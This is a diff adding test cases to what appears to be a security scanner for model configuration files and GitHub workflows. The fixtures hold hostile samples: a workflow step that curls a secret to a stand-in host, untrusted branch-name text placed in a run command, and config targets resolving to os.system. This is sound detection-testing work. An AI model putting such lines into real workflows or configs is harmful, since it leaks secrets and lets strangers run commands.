@@ -71,6 +71,28 @@ def list_references(reading):
         ("workflow.json", '{"models": [{"url": "https://e.invalid/x.ckpt"}]}', ("weights", "https://e.invalid/x.ckpt")),
         ("Modelfile", "FROM hf.co/a/b:Q4\n", ("weights", "hf.co/a/b:Q4")),
         ("Modelfile", "FROM llama3\nADAPTER http://192.0.2.1/x.gguf\n", ("weights", "http://192.0.2.1/x.gguf")),
+        ("a.yml", "nlg:\n  url: http://203.0.113.7/nlg\n", ("sends-to", "203.0.113.7")),
+        ("a.yml", "event_broker: {type: pika, url: broker.e.invalid}\n", ("sends-to", "broker.e.invalid")),
+        ("a.yml", "otlp-traces-endpoint: grpc://e.invalid:4317\n", ("sends-to", "e.invalid")),
+        ("a.yml", "spec: {predictor: {logger: {mode: all, url: https://e.invalid}}}\n", ("sends-to", "e.invalid")),
+        (
+            "a.yml",
+            "logging: {driver: gelf, options: {gelf-address: udp://e.invalid:12201}}\n",
+            ("sends-to", "e.invalid"),
+        ),
+        ("a.yml", "base_model: a/b\nplugins:\n- own.boot.Boot\n", ("target", "own.boot.Boot")),
+        ("a.yml", "steps:\n- step: {type_info: {module: os, name: system}}\n", ("target", "os.system")),
+        ("a.json", json.dumps([{"content": "import os\nos.system('x')\nclass Tools: pass\n"}]), ("call", "os.system")),
+        (
+            ".github/workflows/a.yml",
+            "jobs: {a: {steps: [{run: 'echo ${{ github.head_ref }}'}]}}\n",
+            ("strangers-text", "run"),
+        ),
+        (
+            ".github/workflows/a.yml",
+            "jobs: {a: {steps: [{run: 'curl -d ${{ secrets.A }} https://e.invalid/x'}]}}\n",
+            ("sent-secret", "e.invalid"),
+        ),
         ("a.json", '{"hidden_size": -2}', ("size", "hidden_size")),
         # More digits than a float can express, and more than Python converts.
         ("a.json", json.dumps({"hidden_size": "9" * 350}), ("size", "hidden_size")),
@@ -119,11 +141,30 @@ def test_configuration_classes_commands_tags_and_switches_on_which_a_loader_acts
         ("a.json", '{"a": {"module": "encoder"}, "b": {"function": "run"}}'),
         ("notes.txt", "_target_: os.system is how it is done\n"),
         ("a.yaml", "backbone: resnet50\npretrained: true\nmodel: yolo.pt\nname_or_path: a/b\n"),
+        ("a.yml", "action_endpoint:\n  url: http://localhost:5055/webhook\nnlg: {url: http://nlg:1/x}\n"),
+        ("a.yml", "action_endpoint: {url: http://10.0.0.5:5055/webhook}\nlogger: {url: file.log}\n"),
+        ("a.yml", "tracking_uri: https://dagshub.com/a/b.mlflow\ntracker_store: {url: mongo.internal}\n"),
+        ("a.yml", "base_model: a/b\nplugins:\n- axolotl.integrations.liger.LigerPlugin\n"),
+        ("a.yml", "plugins:\n- own.boot.Boot\n"),
         ("Modelfile", "FROM llama3:8b\nFROM someone/llama3\n"),
     ],
 )
 def test_ordinary_configuration_values_give_no_mentions(read_bytes, path, text):
     assert list_mentions(read_bytes(text.encode(), path)) == []
+
+
+@check_each(
+    "command",
+    [
+        "echo ${{ github.ref }} ${{ github.event.issue.number }}",
+        "curl -H ${{ secrets.T }} https://huggingface.co/x",
+        "echo ${{ secrets.T }}; curl https://e.invalid/x",
+    ],
+)
+def test_workflow_that_runs_no_text_of_a_stranger_and_sends_no_secret_away_is_not_mentioned(read_bytes, command):
+    text = json.dumps({"jobs": {"a": {"steps": [{"run": command}]}}})
+    uses = {use for use, _ in list_mentions(read_bytes(text.encode(), ".github/workflows/a.yml"))}
+    assert not uses & {"strangers-text", "sent-secret"}
 
 
 @check_each(
@@ -901,3 +942,14 @@ def test_configuration_that_a_macro_of_monai_inserts_becomes_a_reference(read_by
         ("code", "../x.json"),
         ("code", "train.yaml"),
     ]
+
+
+def test_key_of_an_index_of_members_asks_for_a_callable_only_by_its_bare_name(read_bytes):
+    index = {f"Part{number}": f"acme.parts.of{number}" for number in range(60)}
+    members = index | {"debug_handler": "acme.handlers", "acme.Factory": "acme.factories"}
+    assert list_mentions(read_bytes(json.dumps(members).encode(), "a.json")) == []
+    for stated in (index | {"handler": "acme.run"}, {"debug_handler": "acme.run", "a": "b.c"}):
+        assert ("asked-for", "acme.run") in list_mentions(read_bytes(json.dumps(stated).encode(), "a.json"))
+    assert ("value", "os.system") in list_mentions(
+        read_bytes(json.dumps(index | {"a_handler": "os.system"}).encode(), "a.json")
+    )
